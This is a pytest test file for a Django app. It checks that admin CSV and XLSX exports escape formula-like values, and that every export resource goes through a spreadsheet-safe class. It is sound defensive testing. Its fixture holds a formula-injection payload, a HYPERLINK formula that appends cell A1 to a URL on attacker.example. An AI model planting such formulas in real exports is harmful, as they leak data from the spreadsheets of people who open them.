"""Admin exports (django-import-export) write formula-looking text as text, in CSV and XLSX."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from recommendations.models import Recommendation, Role
from recommendations.resources import SpreadsheetSafeResource
from tests.factories import RecommendationFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")'


def _export(client, file_format: str) -> bytes:
    model_admin = admin.site._registry[Recommendation]
    formats = [f for f in model_admin.get_export_formats() if f().can_export()]
    index = next(i for i, f in enumerate(formats) if f().get_title() == file_format)
    resource = model_admin.get_export_resource_classes(None)[0]
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    url = reverse("admin:recommendations_recommendation_export")
    response = client.post(url, {"resource": "0", "format": str(index), **fields})
    assert response.status_code == 200, response.content[:500]
    return response.content


@pytest.fixture
def administrator(client):
    RecommendationFactory(response_rationale=FORMULA, text="+SUM(1,2) and more")
    user = UserFactory(username="root", unit=None, role=Role.ADMINISTRATOR, is_staff=True, is_superuser=True)
    client.force_login(user)
    return client


def test_a_formula_in_a_rationale_is_exported_as_text_in_csv(administrator):
    rows = list(csv.DictReader(io.StringIO(_export(administrator, "csv").decode("utf-8-sig"))))
    assert rows[0]["response_rationale"] == "'" + FORMULA
    assert rows[0]["text"] == "'+SUM(1,2) and more"


def test_a_formula_in_a_rationale_is_exported_as_text_in_xlsx(administrator):
    sheet = openpyxl.load_workbook(io.BytesIO(_export(administrator, "xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("response_rationale") + 1)
    assert cell.data_type == "s"
    assert cell.value == "'" + FORMULA


def test_every_admin_export_goes_through_the_formula_rule():
    exporting = [model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ExportMixin)]
    assert exporting
    for model_admin in exporting:
        for resource in model_admin.get_export_resource_classes(None):
            assert issubclass(resource, SpreadsheetSafeResource), resource
